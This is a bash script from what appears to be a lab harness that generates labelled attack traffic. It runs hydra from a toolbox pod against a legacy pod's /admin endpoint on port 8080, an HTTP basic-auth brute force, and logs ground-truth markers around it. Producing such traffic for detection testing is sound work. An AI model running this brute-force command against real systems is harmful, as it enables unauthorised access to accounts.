#!/usr/bin/env bash
# Exploitation: HTTP basic-auth brute force against the legacy app's /admin (60 attempts).
set -euo pipefail
source "$LAB_DIR/lib.sh"
T=$(lab_pod_ip legacy); lab_assert_target "$T"
ns=$(lab_pod_ns toolbox)
lab_hydra_lists
gt_begin hydra-http-basic exploitation hydra pod:toolbox pod:legacy "hydra http-get /admin, users admin/ubuntu, 30 passwords each"
lab_exec "$ns" timeout 90 hydra -L "$LAB_RUN/users.txt" -P "$LAB_RUN/passwords.txt" -t 4 -s 8080 -I -o /dev/null "$T" http-get /admin >>"$GT_LOG" 2>&1 || true
gt_end '{"dport":8080}'
